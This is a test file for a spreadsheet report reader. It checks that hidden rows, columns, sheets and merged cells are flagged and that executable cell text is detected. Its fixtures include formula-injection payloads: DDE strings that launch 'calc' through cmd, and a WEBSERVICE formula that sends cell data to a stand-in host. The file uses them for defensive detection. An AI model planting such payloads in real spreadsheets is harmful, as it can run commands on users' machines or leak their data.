/** What a sheet hides, and text that would run. */
import { describe, expect, it } from 'vitest';
import { readReports } from '../../../core/report/read.ts';
import { SAMPLE_MOVEMENT } from '../../fixtures/sample-movement.ts';
import { bookOf, sheetOf } from './book.ts';
import { entryOf, FILES, HEADER, MEETINGS, ofKind, read, TRAINED } from './typed.ts';

describe('what is hidden or dangerous', () => {
  const rows = [
    HEADER,
    ['2.1', FILES, 20, '72/90', 18, 'KH 1/KH-UBND'],
    ['2.2', MEETINGS, 10, '3/6', 10, 'KH 2/KH-UBND'],
  ];

  it('values of hidden rows, columns and sheets are read and reported; a look-up sheet is not', () => {
    const hidden = read(rows, { hiddenRows: [2], hiddenColumns: [4], state: 'hidden', name: 'BC' });
    expect(hidden.entries).toHaveLength(2);
    expect(ofKind(hidden, 'hidden')).toEqual([
      { kind: 'hidden', what: 'hàng 3', cell: { sheet: 'BC', address: 'D3' }, criterion: '2.2' },
      { kind: 'hidden', what: 'cột E', cell: { sheet: 'BC', address: 'E2' } },
      { kind: 'hidden', what: 'trang tính "BC"', cell: { sheet: 'BC', address: 'A1' } },
    ]);
    const lookup = sheetOf(
      [
        ['Mã', 'Tên'],
        ['01', 'Bản Nà Đắng'],
        ['02', { error: '#N/A' }],
      ],
      { name: 'DM', state: 'hidden' },
    );
    const bare = sheetOf(
      [
        [FILES, 3],
        [MEETINGS, 4],
        [TRAINED, 5],
      ],
      { name: 'Nháp', state: 'very-hidden' },
    );
    const file = readReports(bookOf([sheetOf(rows), lookup, bare]), { file: 'f.xlsx', movement: SAMPLE_MOVEMENT });
    expect(file.reports).toHaveLength(1);
    expect(file.remarks).toEqual([
      { kind: 'hidden', what: 'trang tính "Nháp"', cell: { sheet: 'Nháp', address: 'A1' } },
    ]);
  });

  it('a value under a merge is reported, not read', () => {
    const report = read(rows, { merges: ['D2:D3'] });
    expect(entryOf(report, '2.2').value?.reading).toEqual({ kind: 'missing' });
    expect(ofKind(report, 'hidden')).toEqual([
      { kind: 'hidden', what: 'ô D3 nằm dưới ô gộp', cell: { sheet: 'Sheet1', address: 'D3' }, criterion: '2.2' },
    ]);
  });

  it.each([
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    '=HYPERLINK("http://x","y")',
    '@SUM(A1:A9)',
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '=A1',
    '=72/90',
  ])('text that Excel would execute is reported: %s', (text) => {
    const report = read([...rows, ['2.3', TRAINED, 10, 4, 10, 'KH 3/KH-UBND', text]]);
    expect(ofKind(report, 'formula-text').map((remark) => remark.cell.address)).toEqual(['G4']);
  });

  it.each([
    '- Nam',
    '-5',
    '+84 912 345 678',
    '@',
    '- Đã ban hành (có kế hoạch)',
    '= Tổng số hồ sơ',
    '=> Đạt',
    '+ Có',
    '-',
    '@vneid',
    '- KH|QĐ kèm theo',
    '+ Nam(3), Nữ(2)',
  ])('everyday writing is not: %s', (text) => {
    const report = read([...rows, ['2.3', TRAINED, 10, 4, 10, 'KH 3/KH-UBND', text]]);
    expect(ofKind(report, 'formula-text')).toEqual([]);
  });

  it('a formula that reaches outside is reported, a sum is not', () => {
    const report = read([
      ...rows,
      ['2.3', TRAINED, 10, { formula: 'WEBSERVICE("http://x/"&A1)', value: 4 }, { formula: 'SUM(E2:E3)', value: 28 }],
    ]);
    expect(ofKind(report, 'formula-text')).toEqual([
      { kind: 'formula-text', text: '=WEBSERVICE("http://x/"&A1)', cell: { sheet: 'Sheet1', address: 'D4' } },
    ]);
  });
});
